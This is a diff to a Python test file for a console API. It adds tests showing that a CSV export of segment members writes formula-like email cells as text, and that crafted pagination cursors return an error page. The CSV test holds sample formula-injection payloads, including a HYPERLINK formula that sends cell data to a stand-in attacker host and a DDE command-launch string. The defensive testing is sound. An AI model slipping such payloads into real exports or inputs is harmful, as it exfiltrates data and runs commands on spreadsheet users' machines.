@@ -3,16 +3,22 @@ every page, the CSV export, dead letter replay, the live stream behind the sessi
 
 from __future__ import annotations
 
+import base64
+import csv
 import re
 import time
+from pathlib import Path
 from typing import Any
 
 import redis
 
 from connector import clock
+from connector.config import load_accounts
+from connector.profiles import lookup
 from connector.sync.deadletters import DeadLetters
 from connector.worker import sizes
 from tests.ops.api.conftest import Mint
+from tests.profile_helpers import apply, ev
 
 
 def login(api: Any, secret: str) -> Any:
@@ -94,6 +100,43 @@ def test_overview_segments_segment_and_person(
     assert api.get("/console/a/acme/people?email=nobody@example.com").status_code == 404
 
 
+def test_the_csv_export_writes_formula_like_cells_as_text(
+    api: Any, mint: Mint, api_accounts: Path, redis_client: redis.Redis
+) -> None:
+    """An email is whatever a sender's write key sent: a cell a spreadsheet would run as a formula
+    is written with a leading quote, so it opens as text."""
+    emails = [
+        '=hyperlink("http://evil.example/?x="&a2,"click")',
+        "+1+cmd|' /c calc'!a0@example.com",
+        "-2+3@example.com",
+        "@sum(1+1)@example.com",
+        "plain@example.com",
+    ]
+    accounts = load_accounts(api_accounts)
+    for n, email in enumerate(emails):
+        apply(redis_client, accounts, ev(f"x{n}", "order_completed", props={"revenue": 500.0}, email=email))
+        pid = lookup(redis_client, "acme", "email", email)
+        assert pid is not None, email
+        pipe = redis_client.pipeline()
+        sizes.record_transitions(pipe, "acme", ["vip"], [], clock.now(), profile_id=pid)
+        pipe.execute()
+    login(api, mint("viewer", "acme"))
+    res = api.get("/console/a/acme/segments/vip/members.csv")
+    assert res.status_code == 200
+    header, *rows = list(csv.reader(res.get_data(as_text=True).splitlines()))
+    assert header == ["profile_id", "email"]
+    assert sorted(email for _, email in rows) == sorted(
+        [
+            '\'=hyperlink("http://evil.example/?x="&a2,"click")',
+            "'+1+cmd|' /c calc'!a0@example.com",
+            "'-2+3@example.com",
+            "'@sum(1+1)@example.com",
+            "plain@example.com",
+        ]
+    )
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
 def test_a_viewer_cannot_replay_and_an_editor_can(
     api: Any, api_app: Any, mint: Mint, redis_client: redis.Redis
 ) -> None:
@@ -158,3 +201,12 @@ def test_the_live_page_states_the_servers_own_limit_of_deliveries_shown(api: Any
         assert "Every delivery is shown" in page and "Past " not in page
     finally:
         publisher.shown_per_second = default
+
+
+def test_a_crafted_members_cursor_is_an_error_page_not_a_crash(api: Any, mint: Mint) -> None:
+    login(api, mint("viewer", "acme"))
+    for position in (b'[0,"\\ud800"]', b'[-1,"\\u0661"]'):
+        cursor = base64.urlsafe_b64encode(position).decode().rstrip("=")
+        page = api.get(f"/console/a/acme/segments/vip?cursor={cursor}")
+        assert page.status_code == 422
+        assert "invalid cursor" in page.get_data(as_text=True)
